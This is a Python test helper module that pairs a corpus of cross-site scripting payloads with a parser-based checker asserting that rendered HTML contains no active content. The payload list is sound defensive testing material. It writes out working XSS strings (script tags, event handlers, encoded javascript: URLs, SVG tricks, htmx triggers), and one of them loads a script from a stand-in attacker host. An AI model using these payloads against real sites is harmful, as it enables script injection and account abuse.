"""An XSS payload corpus and a checker that HTML output is inert, for every renderer's tests.

The checker walks the output with Python's `html.parser.HTMLParser` (no html5lib) and fails on:
active or document-level tags, any `on*` event handler attribute, inline `style`, `srcdoc`,
htmx attributes other than our own `hx-swap-oob`, and URL attributes whose scheme is not on the
allowlist (http, https, mailto, data: images and media). Relative URLs carry no scheme and are
allowed (only the portal's own views pass them in).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    # javascript:/vbscript:/data: URLs, encoded and mixed case
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    # SVG / MathML tricks
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # embedding
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # document-level
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    '<base href="javascript:alert(1)//">',
    # parser confusion
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx</div>',
    # Markdown link / image tricks
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    # HTML inside code
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "meta", "base", "form", "link", "frame",
    "frameset", "applet", "svg", "math", "template", "input", "button", "textarea", "select",
    "noscript", "body", "html", "head", "title", "xmp", "plaintext", "animate", "set",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset",
    "background", "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "usemap", "ping",
}  # fmt: skip
_JUNK = re.compile(r"[\x00-\x20\x7f]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_SAFE_DATA = re.compile(
    r"^data:(image/(png|jpeg|gif|webp|avif|bmp)|video/[a-z0-9.+-]+|audio/[a-z0-9.+-]+)[;,]"
)


def url_is_safe(value: str) -> bool:
    url = _JUNK.sub("", value).lower()
    match = _SCHEME.match(url)
    if not match:
        return True  # relative: no scheme, nothing to execute
    scheme = match.group(1)
    if scheme in ("http", "https", "mailto"):
        return True
    return scheme == "data" and bool(_SAFE_DATA.match(url))


class _Walker(HTMLParser):
    def __init__(self, allow_iframe_src: str | None) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_iframe_src = allow_iframe_src
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        if tag == "iframe":
            values = dict(attrs)
            ok = (
                self.allow_iframe_src is not None
                and values.get("src") == self.allow_iframe_src
                and values.get("sandbox") == ""
                and "srcdoc" not in values
            )
            if not ok:
                self.problems.append(f"<iframe {attrs}>")
        elif tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if (
                name.startswith("on")
                or name in ("style", "srcdoc")
                or (name.startswith(("hx-", "data-hx-")) and name != "hx-swap-oob")
                or name == "hx-on"
            ):
                self.problems.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and not url_is_safe(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and "href" in names:
            rel = dict(attrs).get("rel") or ""
            href = dict(attrs).get("href") or ""
            if href.startswith(("http:", "https:")) and "noopener" not in rel:
                self.problems.append(f"<a href={href!r}> without rel=noopener")


def problems(html: str, *, allow_iframe_src: str | None = None) -> list[str]:
    walker = _Walker(allow_iframe_src)
    walker.feed(str(html))
    walker.close()
    return walker.problems


def assert_inert(html: str, *, allow_iframe_src: str | None = None, context: str = "") -> None:
    found = problems(html, allow_iframe_src=allow_iframe_src)
    assert not found, f"{context}: active content survived: {found}\n--- output ---\n{html}"
